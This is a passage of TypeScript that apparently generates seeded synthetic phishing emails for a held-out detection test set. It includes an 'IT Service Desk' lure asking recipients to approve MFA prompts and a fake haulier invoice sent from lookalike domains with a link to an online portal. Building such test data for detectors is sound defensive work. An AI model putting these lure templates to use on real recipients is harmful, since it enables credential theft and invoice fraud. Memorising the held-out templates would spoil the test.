      from: pick(r, [`it-servicedesk@corp-example.net`, `helpdesk.vanderbrug@gmail.com`]),
      fromName: 'IT Service Desk',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Mailbox migration tonight - approve MFA prompts',
        'IT: Authenticator prompts expected',
        'Important - email migration',
      ]),
      text,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('fake-haulier-invoice-link', 'fake-invoice-link', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const inv = `${int(r, 2024, 2026)}-${digits(r, 5)}`;
    const url = landing(
      r,
      ['invoice-portal-eu.com', 'einvoice-view.net', 'efactuur.test'],
      ['i/{id}', 'view?inv={n}'],
    );
    const body = letter(
      [
        `Dear ${pick(r, ['Sir/Madam', v.first, 'accounts team'])},`,
        `Kindly find invoice ${inv} for the transport ${pick(r, ['Rotterdam - Lyon', 'Antwerp - Duisburg', 'Venlo - Milano'])} on ${shortDate(when(r))}.`,
        `Due to file size the invoice and CMR are available online: [Invoice ${inv}](${url})`,
        'Thank you for your business.',
      ],
      [h.name, 'Administration'],
    );
    return build(r, {
      from: `facturen@${pick(r, h.lookalikes)}`,
      fromName: h.name,
      to: v.email,
      toName: v.name,
      subject: `Invoice ${inv} - ${h.name}`,
      ...body,
      auth: chance(r, 2) ? pass() : spfOnly(),
      relay: relays.shady(r),
    });
  }),
];

const domainPart = (email: string) => email.split('@')[1];
const slugName = (name: string) =>
  name
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z ]/g, '')
    .replace(/ /g, '.');

const TEMPLATES: Template[] = [...ENGLISH, ...LOCAL_PHISHING];

export const UNSEEN_18_KINDS: readonly string[] = [...new Set(TEMPLATES.map((x) => x.kind))];
export const UNSEEN_18_TEMPLATE_COUNT: number = TEMPLATES.length;

export async function unseenPhishing18(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  const out: { raw: string; kind: string; template: string }[] = [];
  for (const [i, template] of TEMPLATES.entries())
    for (let k = 0; k < perTemplate; k++) {
      const r = seededRandom(messageSeed(seed, i, k, 0x18a));
      out.push({ raw: await template.make(r), kind: template.kind, template: template.name });
    }
  return out;
}
